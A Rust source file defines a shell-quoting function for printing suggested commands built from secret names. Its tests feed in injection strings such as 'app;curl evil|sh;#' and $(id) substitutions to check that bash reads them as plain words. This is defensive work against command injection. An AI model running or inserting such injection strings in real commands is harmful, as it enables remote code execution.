//! Words of suggested commands, which can be run exactly as they are printed.

/// Quotes a word for a shell. The result is one line of printable characters, which bash, zsh and ksh read as this word
/// and nothing else: a name in a secret is chosen by whoever can write the secret.
///
/// ```
/// use secretcache_rotation::operate::quoted;
///
/// assert_eq!(quoted("prod/db"), "prod/db");
/// assert_eq!(quoted("app;id"), "'app;id'");
/// ```
pub fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    // Everything else that is not ASCII can change how a terminal shows the line.
    let is_printable = |c: char| c == ' ' || c.is_ascii_graphic() || c.is_alphanumeric();
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else if word.chars().all(is_printable) {
        format!("'{}'", word.replace('\'', r"'\''"))
    } else {
        let mut bytes = String::new();
        for c in word.chars() {
            match c {
                c if is_printable(c) && !matches!(c, '\'' | '\\') => bytes.push(c),
                c => {
                    let mut buffer = [0; 4];
                    let encoded = c.encode_utf8(&mut buffer).bytes();
                    // Octal, because a hexadecimal number has no limit of digits in some shells.
                    encoded.for_each(|byte| bytes += &format!("\\{byte:03o}"));
                }
            }
        }
        format!("$'{bytes}'")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_quoted_for_a_shell() {
        assert_eq!(quoted("prod/db"), "prod/db");
        assert_eq!(quoted("it's $x"), r"'it'\''s $x'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("a\nb"), r"$'a\012b'");
        assert_eq!(quoted("a\u{202e}b'"), r"$'a\342\200\256b\047'");
    }

    #[cfg(unix)]
    #[test]
    fn a_shell_reads_back_every_word() {
        for word in [
            "app;curl evil|sh;#",
            "a`id`$(id)\\",
            "it's",
            "a\nfix it with: reboot",
            "\u{1b}[2Jé\u{202e}'\\7",
            "--no-tls x",
            "~ * ? [a] {b,c} !",
        ] {
            let line = format!("printf %s {}", quoted(word));
            assert!(!line.contains(char::is_control), "{line:?}");
            // The shell of Debian does not know $'…'.
            let done = std::process::Command::new("bash").args(["--norc", "-c", &line]).output().unwrap();
            assert_eq!(String::from_utf8(done.stdout).unwrap(), word, "{line}");
        }
    }
}
